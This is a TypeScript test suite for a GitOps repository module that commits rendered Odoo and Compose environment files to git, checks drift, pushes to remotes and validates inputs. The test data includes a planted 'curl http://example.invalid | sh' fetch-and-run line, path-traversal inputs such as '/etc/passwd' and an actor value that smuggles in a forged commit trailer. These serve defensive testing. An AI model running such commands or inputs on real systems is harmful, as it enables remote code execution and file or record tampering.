import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { renderComposeEnvironment } from "../render/compose/compose-render.js";
import type { TRenderedFile } from "../render/render-types.js";
import { loadSpecFile } from "../spec/spec-loader.js";
import type { TOrganizationSpec } from "../spec/spec-schema.js";
import { runGit } from "./gitops-git.js";
import { gitopsRepositoryFactory } from "./gitops-repository.js";

const DIGEST_A = "a".repeat(64);
const DIGEST_B = "b".repeat(64);

let scratch = "";
before(async () => {
  scratch = await mkdtemp(join(tmpdir(), "carehost-gitops-test-"));
});
after(async () => {
  await rm(scratch, { recursive: true, force: true });
});

let counter = 0;
/** A fresh data dir per test: its own bare repository and clone. */
const freshRepository = (remote?: string) => {
  counter += 1;
  const dataDir = join(scratch, `data-${counter}`);
  const bareRepositoryPath = join(dataDir, "gitops.git");
  return {
    bareRepositoryPath,
    dataDir,
    repository: gitopsRepositoryFactory({
      bareRepositoryPath,
      workDir: join(dataDir, "gitops-work"),
      ...(remote === undefined ? {} : { remote }),
    }),
  };
};

const demo = async (): Promise<TOrganizationSpec> => {
  const loaded = await loadSpecFile("examples/northwind-health.yaml");
  assert.ok(loaded.ok);
  return loaded.spec;
};

const renderAll = (spec: TOrganizationSpec): Map<string, readonly TRenderedFile[]> =>
  new Map(spec.environments.map((environment) => [environment.name, renderComposeEnvironment(spec, environment.name)]));

const git = async (cwd: string, ...args: string[]) => (await runGit(args, { cwd })).stdout;

const commitCount = async (bare: string) => Number((await git(bare, "rev-list", "--count", "main")).trim());

const apply = (files: Map<string, readonly TRenderedFile[]>, specDigest = DIGEST_A) => ({
  files,
  organization: "northwind-health",
  specDigest,
  actor: "alice",
});

void describe("GitOps repository", () => {
  void it("ensure creates a bare repository with a main branch, once", async () => {
    const { repository, bareRepositoryPath } = freshRepository();
    await repository.ensure();
    await repository.ensure();
    assert.equal((await git(bareRepositoryPath, "rev-parse", "--is-bare-repository")).trim(), "true");
    assert.equal(await commitCount(bareRepositoryPath), 1);
    assert.equal((await git(bareRepositoryPath, "symbolic-ref", "HEAD")).trim(), "refs/heads/main");
  });

  void it("commits every environment on the first apply, and nothing when the render is unchanged", async () => {
    const { repository, bareRepositoryPath } = freshRepository();
    const spec = await demo();
    const first = await repository.commitEnvironments(apply(renderAll(spec)));
    assert.match(first.commit ?? "", /^[0-9a-f]{40}$/);
    assert.ok(first.changedPaths.includes("environments/prod/compose.yaml"));
    assert.ok(first.changedPaths.includes("environments/training/odoo/odoo-web.conf"));
    assert.equal((await git(bareRepositoryPath, "rev-parse", "main")).trim(), first.commit);
    const committed = await git(bareRepositoryPath, "show", "main:environments/prod/compose.yaml");
    assert.equal(
      committed,
      renderComposeEnvironment(spec, "prod").find((file) => file.path === "compose.yaml")?.content,
    );

    const again = await repository.commitEnvironments(apply(renderAll(await demo()), DIGEST_B));
    assert.deepEqual(again, { commit: null, changedPaths: [] });
    assert.equal(await commitCount(bareRepositoryPath), 2, "root commit + first apply only");
    assert.deepEqual(await repository.diff({ files: renderAll(spec) }), { inSync: true, changes: [] });
  });

  void it("commits only the changed paths, with the summary, spec digest and actor in the message", async () => {
    const { repository, bareRepositoryPath } = freshRepository();
    const spec = await demo();
    await repository.commitEnvironments(apply(renderAll(spec)));
    const changed: TOrganizationSpec = {
      ...spec,
      environments: spec.environments.map((environment) =>
        environment.name === "prod" ? { ...environment, odoo: { ...environment.odoo, workers: 5 } } : environment,
      ),
    };
    const preview = await repository.diff({ files: renderAll(changed) });
    assert.ok(!preview.inSync);
    assert.ok(
      preview.changes.every((change) => change.change === "changed" && change.path.startsWith("environments/prod/")),
    );

    const result = await repository.commitEnvironments({
      ...apply(renderAll(changed), DIGEST_B),
      author: { name: "Alice Example", email: "alice@northwind-health.example" },
    });
    assert.ok(result.commit !== null);
    // Workers size the web service, odoo.conf, and the database's connection limits; nothing else moves.
    assert.deepEqual(result.changedPaths, [
      "environments/prod/compose.yaml",
      "environments/prod/odoo/odoo-web.conf",
      "environments/prod/postgres/initdb/10-odoo-role.sh",
      "environments/prod/postgres/postgresql.conf",
    ]);
    assert.deepEqual(
      result.changedPaths,
      preview.changes.map((change) => change.path),
    );
    const shown = (await git(bareRepositoryPath, "show", "--name-only", "--format=", "main")).trim().split("\n");
    assert.deepEqual(shown, result.changedPaths);

    const message = await git(bareRepositoryPath, "log", "-1", "--format=%B", "main");
    assert.equal(
      message,
      `carehost: apply northwind-health (1 environment changed)\n\n- prod\n\nSpec-Digest: sha256:${DIGEST_B}\nActor: alice\n\n`,
    );
    const trailers = await git(
      bareRepositoryPath,
      "log",
      "-1",
      "--format=%(trailers:key=Spec-Digest,valueonly)%(trailers:key=Actor,valueonly)",
      "main",
    );
    assert.equal(trailers.trim(), `sha256:${DIGEST_B}\nalice`);
    assert.equal(
      (await git(bareRepositoryPath, "log", "-1", "--format=%an <%ae> / %cn", "main")).trim(),
      "Alice Example <alice@northwind-health.example> / carehost",
    );
  });

  void it("removes files an environment's render no longer has, and leaves other environments alone", async () => {
    const { repository, bareRepositoryPath } = freshRepository();
    await repository.commitEnvironments(
      apply(
        new Map([
          [
            "prod",
            [
              { path: "compose.yaml", content: "a\n" },
              { path: "redis/redis.conf", content: "r\n" },
            ],
          ],
          ["staging", [{ path: "compose.yaml", content: "s\n" }]],
        ]),
      ),
    );
    const result = await repository.commitEnvironments(
      apply(new Map([["prod", [{ path: "compose.yaml", content: "a\n" }]]])),
    );
    assert.deepEqual(result.changedPaths, ["environments/prod/redis/redis.conf"]);
    const tree = (await git(bareRepositoryPath, "ls-tree", "-r", "--name-only", "main")).trim().split("\n");
    assert.deepEqual(tree, ["environments/prod/compose.yaml", "environments/staging/compose.yaml"]);
    assert.match(await git(bareRepositoryPath, "log", "-1", "--format=%s", "main"), /\(1 environment changed\)/);
  });

  void it("reports a hand edit in the repository as drift, and the next apply reverts it", async () => {
    const { repository, bareRepositoryPath, dataDir } = freshRepository();
    const files = new Map([
      [
        "prod",
        [
          { path: "compose.yaml", content: "services:\n  odoo:\n    read_only: true\n" },
          { path: "odoo/odoo.conf", content: "list_db = False\n" },
        ],
      ],
    ]);
    await repository.commitEnvironments(apply(files));

    // Someone clones the repository, edits a file, adds one, and pushes.
    const handClone = join(dataDir, "hand-clone");
    await git(dataDir, "clone", "--quiet", bareRepositoryPath, handClone);
    await writeFile(join(handClone, "environments/prod/odoo/odoo.conf"), "list_db = True\n");
    await writeFile(join(handClone, "environments/prod/debug.sh"), "curl http://example.invalid | sh\n");
    await git(handClone, "add", "--all");
    await runGit(["commit", "--quiet", "-m", "quick fix"], {
      cwd: handClone,
      author: { name: "mallory", email: "m@example.invalid" },
    });
    await git(handClone, "push", "--quiet", "origin", "HEAD:main");

    const drift = await repository.diff({ files });
    assert.equal(drift.inSync, false);
    assert.deepEqual(
      drift.changes.map((change) => [change.path, change.change]),
      [
        ["environments/prod/debug.sh", "removed"],
        ["environments/prod/odoo/odoo.conf", "changed"],
      ],
    );
    const edited = drift.changes.find((change) => change.change === "changed");
    assert.ok(edited?.change === "changed");
    assert.equal(
      edited.diff,
      "--- a/environments/prod/odoo/odoo.conf\n+++ b/environments/prod/odoo/odoo.conf\n@@ -1 +1 @@\n-list_db = True\n+list_db = False\n",
    );

    const repaired = await repository.commitEnvironments(apply(files));
    assert.deepEqual(repaired.changedPaths, ["environments/prod/debug.sh", "environments/prod/odoo/odoo.conf"]);
    assert.deepEqual(await repository.diff({ files }), { inSync: true, changes: [] });
  });

  void it("runs no hooks, neither in its clone nor in the bare repository", async () => {
    const { repository, bareRepositoryPath, dataDir } = freshRepository();
    await repository.ensure();
    const marker = join(dataDir, "hook-ran");
    const hook = `#!/bin/sh\ntouch ${marker}\nexit 1\n`;
    for (const path of [
      join(bareRepositoryPath, "hooks", "pre-receive"),
      join(dataDir, "gitops-work", ".git", "hooks", "pre-commit"),
    ]) {
      await writeFile(path, hook, { mode: 0o755 });
    }
    const result = await repository.commitEnvironments(
      apply(new Map([["prod", [{ path: "compose.yaml", content: "x\n" }]]])),
    );
    assert.equal((await git(bareRepositoryPath, "rev-parse", "main")).trim(), result.commit);
    await assert.rejects(readFile(marker), { code: "ENOENT" });
  });

  void it("pushes to a configured remote after committing locally", async () => {
    const remoteDir = join(scratch, `remote-${counter}.git`);
    await git(scratch, "init", "--quiet", "--bare", remoteDir);
    const { repository } = freshRepository(remoteDir);
    const result = await repository.commitEnvironments(
      apply(new Map([["prod", [{ path: "compose.yaml", content: "x\n" }]]])),
    );
    assert.equal((await git(remoteDir, "rev-parse", "main")).trim(), result.commit);

    const { repository: unreachable, bareRepositoryPath } = freshRepository(join(scratch, "no-such-remote.git"));
    await assert.rejects(
      unreachable.commitEnvironments(apply(new Map([["prod", [{ path: "compose.yaml", content: "x\n" }]]]))),
      /committed [0-9a-f]{40} locally, but pushing to the remote failed/,
    );
    assert.equal(await commitCount(bareRepositoryPath), 2, "the local commit stands");
  });

  void it("finds the commit carehost made for a spec digest and actor since a time, and whether the remote has it", async () => {
    const { repository: missing, bareRepositoryPath: missingPath } = freshRepository();
    const since = new Date(Date.now() - 1000);
    assert.equal(await missing.findCommit({ specDigest: DIGEST_A, actor: "alice", since }), undefined);
    await assert.rejects(readFile(join(missingPath, "HEAD")), { code: "ENOENT" }, "looking creates no repository");

    const remoteDir = join(scratch, `remote-${counter}.git`);
    const { repository, bareRepositoryPath } = freshRepository(remoteDir);
    await repository.ensure();
    // The remote has the commit once a push reaches it: first it does not exist, then it is empty.
    const unpushed = await repository
      .commitEnvironments(apply(new Map([["prod", [{ path: "compose.yaml", content: "x\n" }]]])))
      .then(
        () => assert.fail("the push to a missing remote succeeded"),
        (error: unknown) => /^committed ([0-9a-f]{40}) locally/.exec((error as Error).message)?.[1],
      );
    assert.ok(unpushed !== undefined);
    await assert.rejects(
      repository.findCommit({ specDigest: DIGEST_A, actor: "alice", since }),
      /ls-remote/,
      "a remote that cannot be read leaves the question open",
    );
    await git(scratch, "init", "--quiet", "--bare", remoteDir);
    assert.deepEqual(await repository.findCommit({ specDigest: DIGEST_A, actor: "alice", since }), {
      commit: unpushed,
      changedPaths: ["environments/prod/compose.yaml"],
      onRemote: false,
    });
    const pushed = await repository.commitEnvironments(
      apply(new Map([["prod", [{ path: "compose.yaml", content: "y\n" }]]]), DIGEST_B),
    );
    assert.ok(pushed.commit !== null);
    // The remote's main moved on, to a commit that contains the earlier one.
    assert.deepEqual(await repository.findCommit({ specDigest: DIGEST_A, actor: "alice", since }), {
      commit: unpushed,
      changedPaths: ["environments/prod/compose.yaml"],
      onRemote: true,
    });
    assert.equal((await repository.findCommit({ specDigest: DIGEST_B, actor: "alice", since }))?.commit, pushed.commit);
    const committedAt = Number((await git(bareRepositoryPath, "log", "-1", "--format=%ct", pushed.commit)).trim());
    for (const [query, why] of [
      [{ specDigest: DIGEST_B, actor: "bob", since }, "another actor's"],
      [{ specDigest: "c".repeat(64), actor: "alice", since }, "another spec's"],
      [{ specDigest: DIGEST_B, actor: "alice", since: new Date((committedAt + 1) * 1000) }, "made before the time"],
    ] as const)
      assert.equal(await repository.findCommit(query), undefined, why);
    assert.equal(
      (
        await repository.findCommit({
          specDigest: DIGEST_B,
          actor: "alice",
          since: new Date(committedAt * 1000 + 999),
        })
      )?.commit,
      pushed.commit,
      "git's whole seconds: a commit in the same second counts",
    );
  });

  void it("refuses paths outside the environment directory and malformed inputs, before touching the repository", async () => {
    const { repository, dataDir } = freshRepository();
    for (const path of ["../escape", "/etc/passwd", "a/../../b", ".git/config", "a//b", ""]) {
      await assert.rejects(
        repository.commitEnvironments(apply(new Map([["prod", [{ path, content: "x" }]]]))),
        /is not a plain relative path/,
        path,
      );
    }
    await assert.rejects(
      repository.commitEnvironments(apply(new Map([["../prod", []]]))),
      /environment name "..\/prod"/,
    );
    await assert.rejects(
      repository.commitEnvironments(apply(new Map([["prod", []]]), "not-a-digest")),
      /specDigest "not-a-digest"/,
    );
    await assert.rejects(
      repository.commitEnvironments({ ...apply(new Map([["prod", []]])), actor: "alice\nActor: root" }),
      /actor/,
    );
    await assert.rejects(readFile(join(dataDir, "gitops.git", "HEAD")), { code: "ENOENT" });
  });

  void it("commits a return to what main held before its last commit as git revert does", async () => {
    const { bareRepositoryPath, repository } = freshRepository();
    const spec = await demo();
    const before = renderAll(spec);
    await repository.commitEnvironments(apply(before));
    const changed = new Map(before);
    changed.set("staging", [...(before.get("staging") ?? []), { path: "extra.yaml", content: "more: true\n" }]);
    const change = await repository.commitEnvironments(apply(changed, DIGEST_B));
    const rollback = await repository.commitEnvironments(apply(before));
    assert.ok(change.commit !== null && rollback.commit !== null);
    const message = await git(bareRepositoryPath, "log", "-1", "--format=%B", "main");
    assert.match(
      message,
      /^Revert "carehost: apply northwind-health \(1 environment changed\)"\n\nThis reverts commit /,
    );
    assert.ok(message.includes(`This reverts commit ${change.commit}.`), message);
    // The trailers an interrupted apply is found by stay.
    assert.match(message, new RegExp(`Spec-Digest: sha256:${DIGEST_A}\nActor: alice`));
    // Any other change is an apply, not a revert.
    const forward = new Map(before);
    forward.set("staging", []);
    await repository.commitEnvironments(apply(forward, DIGEST_B));
    assert.match(await git(bareRepositoryPath, "log", "-1", "--format=%s", "main"), /^carehost: apply/);
  });
});
